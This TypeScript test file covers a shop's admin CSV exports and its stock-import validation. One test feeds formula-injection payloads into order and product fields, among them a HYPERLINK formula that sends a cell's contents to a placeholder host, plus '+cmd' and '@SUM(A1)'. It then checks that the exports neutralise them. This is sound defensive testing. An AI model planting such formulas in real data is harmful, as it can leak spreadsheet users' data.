import { randomUUID } from 'node:crypto';
import type { Role } from '@shop/core';
import { schema } from '@shop/db';
import { createProduct, sql, testDatabaseKinds } from '@shop/db/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, tokenFor } from '../../testing/auth-fixtures';
import { createTestApp, json, type TestApp } from '../../testing/test-app';

describe.each(testDatabaseKinds())('CSV exports on %s', (kind) => {
  let t: TestApp;
  const tokens = {} as Record<Role, string>;

  beforeAll(async () => {
    t = await createTestApp(kind);
    for (const role of ['user', 'manager', 'admin'] as const) tokens[role] = await tokenFor(t, role);
  });
  afterAll(() => t.close());

  const get = (path: string, role?: Role) =>
    t.app.request(path, { headers: role ? bearer(tokens[role]) : {} });

  it.each(['/api/admin/csv/products.csv', '/api/admin/csv/orders.csv'])(
    '%s: guest 401, customer 403',
    async (path) => {
      expect((await get(path)).status).toBe(401);
      expect((await get(path, 'user')).status).toBe(403);
    },
  );

  it('exports every variant with its stock and prices in roubles', async () => {
    const products = [];
    for (let i = 0; i < 3; i++) {
      products.push(
        await createProduct(t.deps.database.db, {
          name: { ru: `Платье «Экспорт»; ${i}` },
          priceKopecks: 459_050,
          variants: [
            { colorCode: 'BLK', sizeCode: 'M', quantity: i },
            { colorCode: 'BLK', sizeCode: 'S', quantity: 7 },
          ],
        }),
      );
    }
    const response = await get('/api/admin/csv/products.csv', 'manager');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const lines = text.trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'SKU;Артикул;Товар;Категория;Цвет;Размер;Остаток;Цена, ₽;Цена до скидки, ₽;В продаже',
    );
    expect(lines).toHaveLength(1 + 6);
    const first = lines.find((line) => line.includes('Экспорт»; 0') && line.includes(';M;'));
    // A name holding the delimiter and quotes is quoted, as CSV requires.
    expect(first).toMatch(/;"Платье «Экспорт»; 0";.*;M;0;4590,50;;да$/);
  });

  it('exports orders with buyer, status and totals', async () => {
    const db = t.deps.database.db;
    await db
      .insert(schema.shippingMethods)
      .values({ id: 'csv', name: 'Курьер', priceKopecks: 0, estimatedDays: '1', isDefault: true });
    const product = await createProduct(db, { variants: [{ colorCode: 'BLK', sizeCode: 'M', quantity: 5 }] });
    const placed = await t.app.request('/api/orders', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
      body: JSON.stringify({
        contact: { name: 'Анна Выгрузка', phone: '+7 900 000-11-22', email: 'csv@mail.test' },
        address: { region: 'moscow', city: 'Москва', street: 'Покровка', house: '17' },
        shippingMethodId: 'csv',
        paymentMethod: 'card_on_delivery',
        lines: [{ productId: product.id, colorCode: 'BLK', sizeCode: 'M', quantity: 2 }],
      }),
    });
    const order = (await json(placed)).data;
    const text = await (await get('/api/admin/csv/orders.csv', 'admin')).text();
    const line = text.split('\r\n').find((l) => l.startsWith(`${order.number};`));
    expect(line).toContain(";Новый;Анна Выгрузка;'+79000001122;csv@mail.test;Москва;Курьер;Не оплачен;");
    expect(line).toContain(`;${(order.totals.totalKopecks / 100).toFixed(2).replace('.', ',')};`);

    // The list's filter picks the rows: another status or buyer leaves the order out.
    const rowsOf = async (query: string) =>
      (await (await get(`/api/admin/csv/orders.csv?${query}`, 'admin')).text())
        .split('\r\n')
        .filter((l) => l.startsWith(`${order.number};`)).length;
    expect(await rowsOf('status=pending&customer=выгрузка')).toBe(1);
    expect(await rowsOf('status=shipped')).toBe(0);
    expect(await rowsOf('customer=никто')).toBe(0);
    const refused = await get('/api/admin/csv/orders.csv?from=2026-02-02&to=2026-02-01', 'admin');
    expect(refused.status).toBe(400);
    expect((await json(refused)).error.message).toBe('Дата «по» не может быть раньше даты «с»');
  });

  it('exports what was given back of each order beside its total', async () => {
    const db = t.deps.database.db;
    await db
      .insert(schema.shippingMethods)
      .values({ id: 'csv', name: 'Курьер', priceKopecks: 0, estimatedDays: '1', isDefault: true })
      .onConflictDoNothing();
    const product = await createProduct(db, {
      priceKopecks: 395_280,
      variants: [{ colorCode: 'BLK', sizeCode: 'M', quantity: 5 }],
    });
    const placed = await t.app.request('/api/orders', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
      body: JSON.stringify({
        contact: { name: 'Анна Возврат', phone: '+7 900 000-55-66' },
        address: { region: 'moscow', city: 'Москва', street: 'Покровка', house: '17' },
        shippingMethodId: 'csv',
        paymentMethod: 'card_on_delivery',
        lines: [{ productId: product.id, colorCode: 'BLK', sizeCode: 'M', quantity: 2 }],
      }),
    });
    const order = (await json(placed)).data;
    // Paid to the courier at the door.
    await db
      .update(schema.orders)
      .set({ status: 'delivered', paymentStatus: 'paid', paidAt: new Date() })
      .where(sql`${schema.orders.id} = ${order.id}`);
    const admin = { ...bearer(tokens.admin), 'content-type': 'application/json' };
    const detail = (await json(await t.app.request(`/api/admin/orders/${order.id}`, { headers: admin })))
      .data;
    const refunded = await t.app.request(`/api/admin/orders/${order.id}/refunds`, {
      method: 'POST',
      headers: admin,
      body: JSON.stringify({ manual: true, lines: [{ itemId: detail.refund.lines[0].itemId, quantity: 1 }] }),
    });
    expect(refunded.status).toBe(200);

    const text = await (await get('/api/admin/csv/orders.csv', 'admin')).text();
    const [header, ...lines] = text.replace('\uFEFF', '').split('\r\n');
    expect(header).toBe(
      'Номер;Дата;Статус;Покупатель;Телефон;Email;Город;Доставка;Оплата;Товары, ₽;Скидка, ₽;Доставка, ₽;Комиссия, ₽;Итого, ₽;Возвращено, ₽;Промокод',
    );
    const line = lines.find((l) => l.startsWith(`${order.number};`));
    const total = (order.totals.totalKopecks / 100).toFixed(2).replace('.', ',');
    expect(line).toMatch(new RegExp(`;${total};3952,80;$`));
  });

  it('neutralises cells a spreadsheet would run as a formula, in every export, keeping them readable', async () => {
    const db = t.deps.database.db;
    const formula = '=HYPERLINK("http://x"&A1,"click")';
    await db
      .insert(schema.shippingMethods)
      .values({ id: 'csv', name: 'Курьер', priceKopecks: 0, estimatedDays: '1', isDefault: true })
      .onConflictDoNothing();
    const product = await createProduct(db, {
      name: { ru: '+cmd' },
      priceKopecks: 1_000,
      variants: [{ colorCode: 'BLK', sizeCode: 'M', quantity: 5 }],
    });
    for (const [name, sizeCode] of [
      ['-2+3', 'L'],
      ['\tтаб', 'S'],
      ['@SUM(A1)', 'XL'],
    ] as const) {
      await createProduct(db, {
        name: { ru: name },
        variants: [{ colorCode: 'BLK', sizeCode, quantity: 1 }],
      });
    }
    const placed = await t.app.request('/api/orders', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'idempotency-key': randomUUID() },
      body: JSON.stringify({
        contact: { name: formula, phone: '+7 900 000-33-44' },
        address: { region: 'moscow', city: formula, street: 'Покровка', house: '17' },
        shippingMethodId: 'csv',
        paymentMethod: 'card_on_delivery',
        lines: [{ productId: product.id, colorCode: 'BLK', sizeCode: 'M', quantity: 1 }],
      }),
    });
    const body = await json(placed);
    expect(placed.status, JSON.stringify(body)).toBe(201);
    const order = body.data;

    const cellsOf = (text: string) =>
      text
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n')
        .flatMap((line) => line.split(';'))
        .map((cell) => cell.replace(/^"|"$/g, '').replaceAll('""', '"'));
    const dangerous = /^[=+\-@\t\r]/;
    const orders = await (await get('/api/admin/csv/orders.csv', 'admin')).text();
    const products = await (await get('/api/admin/csv/products.csv', 'admin')).text();
    expect(cellsOf(orders).filter((cell) => dangerous.test(cell))).toEqual([]);
    expect(cellsOf(products).filter((cell) => dangerous.test(cell))).toEqual([]);

    // The text stays readable: a single quote in front, the rest as typed.
    const orderLine = orders.split('\r\n').find((l) => l.startsWith(`${order.number};`));
    expect(orderLine).toContain(`;"'=HYPERLINK(""http://x""&A1,""click"")";'+79000003344;;`);
    expect(orderLine).toContain(`;"'=HYPERLINK(""http://x""&A1,""click"")";Курьер;`);
    expect(products).toContain(`;'+cmd;`);
    expect(products).toContain(`;'-2+3;`);
    expect(products).toContain(`;'@SUM(A1);`);
    expect(products).toContain(`;'\tтаб;`);
  });
});

describe.each(testDatabaseKinds())('CSV stock import on %s', (kind) => {
  let t: TestApp;
  let token: string;

  beforeAll(async () => {
    t = await createTestApp(kind);
    token = await tokenFor(t, 'manager');
  });
  afterAll(() => t.close());

  const post = (path: string, csv: unknown, auth = true) =>
    t.app.request(path, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(auth ? bearer(token) : {}) },
      body: JSON.stringify({ csv }),
    });
  const stockOf = async (productId: number) =>
    (await json(await t.app.request(`/api/products/${productId}`))).data.variants.map(
      (v: { sizeCode: string; quantity: number }) => `${v.sizeCode}:${v.quantity}`,
    );

  it('previews the changes, then applies them all at once; the storefront sees the new stock', async () => {
    const product = await createProduct(t.deps.database.db, {
      baseSku: `IMP-${kind.slice(0, 2).toUpperCase()}`,
      variants: [
        { colorCode: 'BLK', sizeCode: 'M', quantity: 1 },
        { colorCode: 'BLK', sizeCode: 'S', quantity: 4 },
      ],
    });
    const skus = (
      await t.deps.database.db.query.productVariants.findMany({
        where: (v, { eq }) => eq(v.productId, product.id),
        orderBy: (v, { asc }) => [asc(v.sizeCode)],
      })
    ).map((v) => v.sku);
    expect(await stockOf(product.id)).toContain('M:1');
    const csv = `\uFEFFSKU;Остаток\r\n${skus[0]!.toLowerCase()};9\r\n${skus[1]};4\r\n`;

    const preview = await json(await post('/api/admin/csv/stock/preview', csv));
    expect(preview.data).toEqual({
      lines: 2,
      unchanged: 1,
      changes: [{ sku: skus[0], name: expect.any(String), before: 1, after: 9 }],
    });
    expect(await stockOf(product.id)).toContain('M:1');

    const applied = await post('/api/admin/csv/stock/apply', csv);
    expect(applied.status).toBe(200);
    expect(await stockOf(product.id)).toContain('M:9');
  });

  it('refuses a file with unknown SKUs, bad numbers or repeats and changes nothing', async () => {
    const product = await createProduct(t.deps.database.db, {
      baseSku: `BAD-${kind.slice(0, 2).toUpperCase()}`,
      variants: [{ colorCode: 'BLK', sizeCode: 'M', quantity: 2 }],
    });
    const sku = `BAD-${kind.slice(0, 2).toUpperCase()}-BLK-M`;
    const cases: [string, string][] = [
      [`SKU;Остаток\n${sku};5\nNOPE-1;3\n`, 'Таких SKU нет в каталоге: NOPE-1'],
      [`SKU;Остаток\n${sku};-5\n`, 'Строка 2: остаток должен быть целым числом от 0 до 1 000 000'],
      [`SKU;Остаток\n${sku};5\n${sku};6\n`, `Строка 3: SKU ${sku} уже встречался выше`],
      [
        'Артикул;Количество\nX;1\n',
        'Не удалось прочитать CSV: нужны столбцы «SKU» и «Остаток», разделитель «;» или «,»',
      ],
    ];
    for (const [csv, message] of cases) {
      const response = await post('/api/admin/csv/stock/apply', csv);
      expect(response.status, csv).toBe(400);
      expect((await json(response)).error.message).toBe(message);
    }
    const unknown = await json(
      await post('/api/admin/csv/stock/preview', `SKU;Остаток\nNOPE-2;1\n${sku};4\n`),
    );
    expect(unknown.error.fields['csv.2']).toBe('Строка 2: SKU NOPE-2 нет в каталоге');
    expect(await stockOf(product.id)).toEqual(['M:2']);
    expect((await post('/api/admin/csv/stock/apply', '')).status).toBe(400);
    expect((await post('/api/admin/csv/stock/preview', 'SKU;Остаток', false)).status).toBe(401);
  });
});
